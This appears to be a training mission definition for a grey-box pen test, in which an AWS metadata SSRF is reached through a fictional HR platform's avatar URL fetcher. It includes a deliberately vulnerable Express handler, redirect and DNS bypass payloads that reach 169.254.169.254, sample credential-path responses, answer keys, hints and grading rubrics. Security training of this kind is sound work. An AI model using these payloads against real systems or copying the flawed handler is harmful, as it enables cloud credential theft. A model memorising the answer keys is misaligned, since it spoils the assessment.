import type { MissionInput } from "../schemas";

// Offensive / intermediate: code review → instance metadata → [approved validation | credential misuse → disclosure | stop] → report.
// Paths have different lengths: the "stop" branch goes straight to the report.
const mission: MissionInput = {
  code: "SSRF-02",
  title: "The avatar that fetched the keys",
  track: "offensive",
  tier: "intermediate",
  summary:
    "Grey-box test of an HR platform's \"avatar from URL\" feature: see through a naive host blocklist, reach the AWS instance metadata service, decide what to do with the credentials one request away, and write a finding that gets IMDSv2 and an allowlist shipped.",
  story: `**Tessellate HR** (tessellate-hr.test) runs payroll and employee records for 1,400 small businesses. Its web app runs on AWS EC2. You are a **penetration tester** on day two of a grey-box test of the **pre-production** environment (\`app.preprod.tessellate-hr.test\`). You have two test employee accounts in a test tenant and read access to the source of the avatar service.

The signed **rules of engagement** say:

> In scope: app.preprod.tessellate-hr.test and its APIs. Do not access other tenants' data. **Cloud credentials discovered during testing must not be used**, except to run \`aws sts get-caller-identity\` once, after the client's technical contact (Dev Okonkwo) has approved it in writing. Report any High or Critical finding to Dev the same day.

Tessellate's biggest customer, a chain of care homes, renews next month and has asked for the pen-test summary. Pre-production is meant to be isolated from production — the test is partly to prove it.`,
  objectives: [
    "Find the server-side request forgery and see through the host blocklist by reading the code",
    "Reach the instance metadata service and identify the IAM role without using its credentials",
    "Decide how far to go with the credentials within the rules of engagement",
    "Write a finding with a defensible CVSS vector and fixes in the code and in AWS",
  ],
  estimated_minutes: 120,
  skills: ["web-exploitation", "secure-code-review", "cloud-security", "reporting", "communication"],
  time_constraint_hours: null,
  auto_submit_on_deadline: false,
  reflection_required: true,
  reflection_prompt:
    "The credentials were one request away and using them would have made a more impressive report. How did you decide where to stop, and how would you explain that choice to a client who asked \"so could they have reached production or not?\"",
  success_criteria: {
    min_score: 60,
    required_stages: ["review", "metadata", "report"],
    items: [
      "The bypasses that work are explained from the code (string blocklist, no DNS resolution, redirects followed)",
      "IMDSv1 is identified as the enabling misconfiguration and IMDSv2 as the fix",
      "Credentials are not used beyond what the rules of engagement allow",
      "The finding's CVSS vector treats the AWS account as a changed scope",
    ],
  },
  status: "published",
  stages: [
    {
      key: "review",
      title: "Read the avatar fetcher",
      instructions: `The profile page lets an employee import a profile picture from a URL. This is the handler (\`avatar-service/src/routes/avatar.js\`, Node.js 20, Express, axios 1.6):

\`\`\`js
const BLOCKED_HOSTS = new Set(["localhost", "127.0.0.1", "0.0.0.0", "169.254.169.254"]);

router.post("/api/v2/profile/avatar-from-url", requireSession, async (req, res) => {
  let target;
  try {
    target = new URL(req.body.url);
  } catch {
    return res.status(400).json({ error: "Invalid URL" });
  }
  if (!["http:", "https:"].includes(target.protocol)) return res.status(400).json({ error: "Only http and https URLs" });
  if (BLOCKED_HOSTS.has(target.hostname)) return res.status(400).json({ error: "Host not allowed" });

  const upstream = await axios.get(target.href, { responseType: "arraybuffer", timeout: 5000, maxContentLength: 2_000_000 });
  const type = String(upstream.headers["content-type"] ?? "");
  if (!type.startsWith("image/")) {
    const preview = Buffer.from(upstream.data).subarray(0, 512).toString("utf8");
    return res.status(415).json({ error: \`Unsupported image type (\${type}); response began: \${preview}\` });
  }
  const key = await storeAvatar(req.session.userId, upstream.data, type);
  return res.json({ avatar_key: key });
});
\`\`\`

Submitting \`{"url": "http://oast.pt-lab.test/a.png"}\` makes your out-of-band listener log an HTTP GET from \`203.0.113.61\` with \`User-Agent: axios/1.6.8\`.

Which of these candidate URLs both **pass the blocklist** and **reliably reach** the metadata service at 169.254.169.254? (You control \`pt-lab.test\` and its DNS.)

| | URL |
|---|---|
| A | \`http://2852039166/latest/meta-data/\` |
| B | \`http://0xA9FEA9FE/latest/meta-data/\` |
| C | \`http://imds.pt-lab.test/latest/meta-data/\` — your DNS answers with an A record of 169.254.169.254 |
| D | \`https://pt-lab.test/r?to=http://169.254.169.254/latest/meta-data/\` — your server answers 302 with that Location |
| E | \`http://169.254.169.254:80@pt-lab.test/latest/meta-data/\` |
| F | \`http://[::ffff:169.254.169.254]/latest/meta-data/\` |

1. For each candidate, say what \`new URL(...).hostname\` returns and what the request actually connects to. (Try it: \`node -e 'console.log(new URL("http://2852039166/").hostname)'\`.)
2. Name the three weaknesses in the handler that make this exploitable, and the one that turns a blind SSRF into a readable one.

**Hand in:** the letters of the candidates that pass the check and reliably reach the metadata service, comma-separated, in the answer box; your reasoning per candidate in notes.`,
      required_skills: ["secure-code-review", "web-exploitation"],
      evidence: { required: false, min_files: 0, max_files: 3, kinds: ["text", "image"] },
      notes_min_chars: 60,
      weight: 2,
      answer: {
        kind: "set",
        values: ["C", "D"],
        min_matches: 2,
        explanation:
          "The WHATWG URL parser canonicalises decimal and hex IPv4 (A, B) to 169.254.169.254, which the blocklist catches. E is userinfo: the host is pt-lab.test. F passes the string check but whether it connects to the IPv4 service depends on the runtime and the host's IPv6 stack — not reliable. C works because the hostname is never resolved before the check; D works because axios follows redirects and the check only sees the first URL.",
      },
      answer_prompt: "Letters of the candidates that pass and reliably reach the metadata service",
      recipes: ["ssrf-cloud-metadata-testing", "semgrep-custom-rule"],
      hints: [
        {
          text: "Node's `URL` follows the WHATWG URL standard, which rewrites every IPv4 form (decimal, hex, octal, shortened) into dotted decimal before you ever see `hostname`.",
          penalty: 3,
        },
        {
          text: "The check compares a string. It never resolves DNS, and it never sees where a redirect goes: axios follows up to 21 redirects by default in Node.",
          penalty: 6,
        },
        { text: "C and D.", penalty: 10 },
      ],
    },
    {
      key: "metadata",
      title: "Read the metadata service",
      instructions: `Using candidate D, you send three requests (responses shortened):

\`\`\`
POST /api/v2/profile/avatar-from-url  {"url":"https://pt-lab.test/r?to=http://169.254.169.254/latest/meta-data/"}
-> 415  Unsupported image type (text/plain); response began:
        ami-id
        ami-launch-index
        hostname
        iam/
        instance-id
        instance-type
        local-ipv4
        placement/
        security-groups

POST /api/v2/profile/avatar-from-url  {"url":"https://pt-lab.test/r?to=http://169.254.169.254/latest/meta-data/iam/info"}
-> 415  Unsupported image type (text/plain); response began:
        {
          "Code" : "Success",
          "LastUpdated" : "2025-06-03T08:57:10Z",
          "InstanceProfileArn" : "arn:aws:iam::444455556666:instance-profile/tsl-preprod-avatar-worker-profile",
          "InstanceProfileId" : "AIPAZ4QPLM7T2K5NDV3WQ"
        }

POST /api/v2/profile/avatar-from-url  {"url":"https://pt-lab.test/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}
-> 415  Unsupported image type (text/plain); response began:
        tsl-preprod-avatar-worker
\`\`\`

1. These GET requests carried no token. What does that tell you about the instance's metadata options, and what would the same request have returned if IMDSv2 were **required**? Why can this SSRF not obtain an IMDSv2 token?
2. Why is the name in the last response not the same as the instance profile name, and which one is the **role**?
3. Say exactly what \`/latest/meta-data/iam/security-credentials/tsl-preprod-avatar-worker\` would return — and **do not request it yet**.

**Hand in:** the name of the IAM role in the answer box; your answers in notes; a screenshot or saved responses (redacted) as evidence.`,
      required_skills: ["web-exploitation", "cloud-security"],
      evidence: {
        required: true,
        min_files: 1,
        max_files: 4,
        kinds: ["image", "text", "pdf"],
        description: "The three requests and responses, saved from your proxy or as screenshots.",
      },
      notes_min_chars: 60,
      weight: 2,
      answer: {
        kind: "exact",
        value: "tsl-preprod-avatar-worker",
        explanation:
          "iam/security-credentials/ lists the role attached through the instance profile (tsl-preprod-avatar-worker-profile is the profile, a container for the role). A token-less GET succeeding means HttpTokens is optional (IMDSv1 allowed).",
      },
      answer_prompt: "IAM role name",
      recipes: ["ssrf-cloud-metadata-testing"],
      hints: [
        {
          text: "IMDSv2 needs a PUT to /latest/api/token with an `X-aws-ec2-metadata-token-ttl-seconds` header, then the token in `X-aws-ec2-metadata-token` on every GET. A GET-only SSRF that cannot set headers cannot do either; with tokens required, a token-less GET gets 401.",
          penalty: 3,
        },
        {
          text: "The next path returns JSON with `AccessKeyId` (starting ASIA, a temporary key), `SecretAccessKey`, `Token` and `Expiration` — working credentials for the role.",
          penalty: 6,
        },
      ],
    },
    {
      key: "validate",
      title: "Validate with approval, and hand the credentials back",
      instructions: `You emailed Dev Okonkwo at 09:48 with the role name and asked for approval. At 10:05 Dev replied: *"Approved: retrieve once, run get-caller-identity from your test host, delete them, tell us when. We'll revoke the role's sessions after."* You also gave Tessellate's SOC your test host's address (198.51.100.200): instance credentials used from outside AWS can raise a GuardDuty \`InstanceCredentialExfiltration\` finding.

\`\`\`
$ aws sts get-caller-identity
{
    "UserId": "AROAZ4QPLM7T2H6RBX8YC:i-0a1b2c3d4e5f67890",
    "Account": "444455556666",
    "Arn": "arn:aws:sts::444455556666:assumed-role/tsl-preprod-avatar-worker/i-0a1b2c3d4e5f67890"
}
\`\`\`

To help you rate the impact, Dev sends the role's only policy and a note: *"Pre-prod and prod share account 444455556666 for now. Prod buckets include tsl-prod-employee-documents and tsl-prod-payroll-exports."*

\`\`\`json
{
  "Version": "2012-10-17",
  "Statement": [
    { "Sid": "Avatars", "Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": "arn:aws:s3:::tsl-*/*" },
    { "Sid": "Jobs", "Effect": "Allow", "Action": ["sqs:ReceiveMessage", "sqs:DeleteMessage"],
      "Resource": "arn:aws:sqs:eu-west-2:444455556666:tsl-preprod-avatar-jobs" }
  ]
}
\`\`\`

1. Explain what an attacker with a free employee account could do with this role: which data, read or write, pre-production or production? You do **not** test it.
2. Write the credential handling record: retrieved when, stored where, deleted how, and confirmation sent to Dev.
3. Recommend how Tessellate revokes the exposed credentials now (the IAM console's *Revoke active sessions* for the role denies every session token issued before that moment) and why rotating nothing else is needed for a role.

**Hand in:** the over-broad \`Resource\` value from the policy in the answer box; the impact analysis and handling record in notes.`,
      required_skills: ["cloud-security", "reporting"],
      evidence: { required: false, min_files: 0, max_files: 3, kinds: ["text", "image", "pdf"] },
      notes_min_chars: 60,
      weight: 2,
      answer: {
        kind: "exact",
        value: "arn:aws:s3:::tsl-*/*",
        explanation:
          "The wildcard matches every object in every bucket whose name starts with tsl-, including the production employee-documents and payroll buckets in the same account: read and overwrite. The avatar worker needs one bucket.",
      },
      answer_prompt: "Over-broad Resource in the role policy",
      recipes: ["ssrf-cloud-metadata-testing", "critical-finding-notification"],
      hints: [
        { text: "S3 object ARNs look like arn:aws:s3:::bucket-name/key. What does a `*` inside the bucket name match?", penalty: 3 },
        { text: "The avatars statement grants GetObject and PutObject on `arn:aws:s3:::tsl-*/*` — production buckets start with tsl- too.", penalty: 6 },
      ],
      next: "report",
    },
    {
      key: "overreach",
      title: "You used the credentials: disclose it",
      instructions: `You fetched the credentials and, from your laptop (198.51.100.200), ran \`aws s3 ls\`. It listed 14 buckets, including \`tsl-prod-employee-documents\` and \`tsl-prod-payroll-exports\`. Twelve minutes later Dev Okonkwo phones: GuardDuty raised a **High** finding, \`UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS\`, the SOC has declared an incident and two engineers have been paged.

The rules of engagement did not allow this. Do three things:

1. **Stop** testing anything related to the credentials, and tell Dev immediately what you ran: every command, its time (UTC), your source IP and what came back. Facts they can match against CloudTrail, so the SOC can close the incident as the test — or find anything that was *not* you.
2. **Handle** the credentials: where they were stored (shell history, \`~/.aws/credentials\`, proxy project), how you deleted them, and ask Tessellate to revoke the role's active sessions.
3. Write the **disclosure** to Dev and your engagement manager: what happened, what you saw (bucket names only, no objects), why it breached the rules, and what you will do differently.

**Hand in:** the disclosure and your deletion record in notes.`,
      required_skills: ["communication", "reporting"],
      evidence: { required: false, min_files: 0, max_files: 2, kinds: ["text", "pdf"] },
      notes_min_chars: 60,
      weight: 1,
      recipes: ["critical-finding-notification", "ssrf-cloud-metadata-testing"],
      hints: [
        { text: "The SOC cannot tell your API calls from an attacker's. Give them exact times, the source IP and the API names (ListBuckets) so they can match CloudTrail.", penalty: 3 },
        { text: "Own it plainly. The value you still add is a finding the client now takes very seriously: the role reaches production buckets.", penalty: 6 },
      ],
      next: "report",
    },
    {
      key: "report",
      title: "Write the finding",
      instructions: `Write the finding for the report:

| Field | Content |
|---|---|
| Title | e.g. *Server-side request forgery in avatar import exposes AWS role credentials* |
| Severity | CVSS 3.1 vector and base score, with one line per metric you argued |
| Affected | Endpoint, parameter, code location, EC2 metadata options |
| Description | The flaw and why the blocklist does not work |
| Evidence | Requests and redacted responses; what you did and did not do with credentials |
| Impact | What a user of any customer tenant can reach |
| Remediation | Code fixes and AWS fixes, ordered by how fast they reduce risk |

Score it: any employee of any customer can use the feature (\`requireSession\`), no interaction is needed, and the component you attack (the web app) is not the one that is impacted (the AWS account's resources).

Remediation should include at least: require **IMDSv2** (\`aws ec2 modify-instance-metadata-options --instance-id <id> --http-tokens required --http-put-response-hop-limit 1\`, and make it the default in the launch template); fetch through an allowlist of schemes and ports, **resolve the host and check the resolved address** against private, loopback and link-local ranges, and connect to that address; disable redirects (\`maxRedirects: 0\`) or re-check every hop; stop echoing upstream bodies in errors; scope the role to one bucket; separate pre-production from production accounts.

**Hand in:** the CVSS 3.1 vector in the answer box and the finding as an attached file.`,
      required_skills: ["reporting", "cloud-security"],
      evidence: { required: true, min_files: 1, max_files: 2, kinds: ["text", "pdf"], description: "The finding write-up." },
      notes_min_chars: 20,
      weight: 3,
      answer: {
        kind: "regex",
        pattern: "^\\s*(CVSS:3\\.1/)?AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:[NLH]/A:[NLH]\\s*$",
        explanation:
          "Network, low complexity, low privileges (any employee account), no interaction, scope changed (web app to AWS account), high confidentiality. C:H/I:N/A:N is 7.7; with the policy's PutObject on production buckets, I:H gives 9.6.",
      },
      answer_prompt: "CVSS 3.1 vector",
      recipes: ["cvss-finding-writeup", "ssrf-cloud-metadata-testing"],
      hints: [
        { text: "S:C — the vulnerable component is the application; the impacted component is the AWS account behind the role, under a different security authority.", penalty: 3 },
        { text: "Start from `CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/…` and argue I and A from what the role allows.", penalty: 6 },
      ],
      next: "end",
    },
  ],
  decisions: [
    {
      key: "credentials",
      after_stage: "metadata",
      prompt:
        "One more request returns working AWS credentials for tsl-preprod-avatar-worker. The rules allow a single get-caller-identity, after Dev Okonkwo approves in writing. Dev is in a meeting until 10:00. What do you do?",
      choices: [
        {
          id: "ask-first",
          label: "Stop, email Dev the role name and evidence now, and wait for written approval before touching the credentials",
          consequence:
            "Dev replies at 10:05, approves the single check, and asks for the finding to be marked Critical in the daily status. Nothing fires in the SOC that they were not expecting.",
          next_stage: "validate",
          score_delta: 10,
          ideal: true,
          rationale:
            "The role name and a token-less metadata read already prove the vulnerability; the credentials add only confirmation, and the rules make that confirmation conditional on approval. Asking first keeps the test inside its authorisation and gives the client the chance to prepare the SOC.",
        },
        {
          id: "use-creds",
          label: "Fetch the credentials and list what the role can reach, to show the real impact",
          consequence: "The bucket list is impressive. So is the phone call twelve minutes later.",
          next_stage: "overreach",
          score_delta: -15,
        },
        {
          id: "stop-and-report",
          label: "Do not fetch the credentials at all; report what you have",
          consequence:
            "The finding is sound, but the impact section has to say \"a role exists\" without knowing what it can do. Tessellate's developers rate it Medium until someone reads the role policy.",
          next_stage: "report",
          score_delta: -5,
        },
      ],
    },
  ],
  rubric: [
    {
      key: "code-reading",
      stage: "review",
      title: "Reading the fetcher",
      weight: 2,
      skills: ["secure-code-review", "web-exploitation"],
      levels: [
        { points: 0, label: "Missing", descriptor: "Candidates judged by guesswork; decimal or hex IPs claimed to bypass the check." },
        { points: 1, label: "Partial", descriptor: "C and D identified but the URL parser's normalisation or the redirect behaviour is not explained." },
        { points: 2, label: "Competent", descriptor: "Every candidate explained; string blocklist, no resolution and followed redirects named as the weaknesses." },
        { points: 3, label: "Strong", descriptor: "As competent, and the learner names the echoed body as what makes the SSRF readable and flags F as environment-dependent." },
      ],
    },
    {
      key: "imds-reading",
      stage: "metadata",
      title: "Metadata service analysis",
      weight: 2,
      skills: ["cloud-security", "web-exploitation"],
      levels: [
        { points: 0, label: "Missing", descriptor: "Role name wrong or IMDS behaviour misunderstood." },
        { points: 1, label: "Partial", descriptor: "Role name right but the IMDSv1/IMDSv2 distinction is not explained." },
        { points: 2, label: "Competent", descriptor: "Role vs instance profile explained; token-less GET identified as IMDSv1; why IMDSv2 blocks this SSRF explained." },
        { points: 3, label: "Strong", descriptor: "As competent, with redacted evidence and a clear statement that the credentials were not requested." },
      ],
    },
    {
      key: "approved-validation",
      stage: "validate",
      title: "Validation within the rules",
      weight: 2,
      skills: ["cloud-security", "reporting"],
      levels: [
        { points: 0, label: "Missing", descriptor: "No impact analysis or no handling record." },
        { points: 1, label: "Partial", descriptor: "Over-broad resource found but production impact or write access not explained." },
        { points: 2, label: "Competent", descriptor: "Read and write to production buckets explained; complete handling record; session revocation recommended." },
        { points: 3, label: "Strong", descriptor: "As competent, and the shared pre-production/production account is raised as its own finding." },
      ],
    },
    {
      key: "disclosure",
      stage: "overreach",
      title: "Disclosure of credential misuse",
      weight: 1,
      skills: ["communication"],
      levels: [
        { points: 0, label: "Missing", descriptor: "The misuse is not disclosed or is minimised." },
        { points: 1, label: "Partial", descriptor: "Disclosed but without times, source IP or API calls the SOC can match." },
        { points: 2, label: "Competent", descriptor: "Complete facts, credential deletion recorded, session revocation requested." },
        { points: 3, label: "Strong", descriptor: "As competent, with an honest account and a concrete change to personal practice." },
      ],
    },
    {
      key: "finding",
      stage: "report",
      title: "Finding write-up",
      weight: 3,
      skills: ["reporting"],
      levels: [
        { points: 0, label: "Missing", descriptor: "No finding, or remediation limited to \"add more hosts to the blocklist\"." },
        { points: 1, label: "Partial", descriptor: "Finding present but CVSS scope unchanged without argument, or IMDSv2 missing from the fixes." },
        { points: 2, label: "Competent", descriptor: "All fields, defensible CVSS with S:C, IMDSv2 plus resolved-address checking and redirect handling." },
        { points: 3, label: "Strong", descriptor: "As competent, with fixes ordered by speed of risk reduction, least-privilege role and account separation, and a retest plan." },
      ],
    },
  ],
};

export default mission;
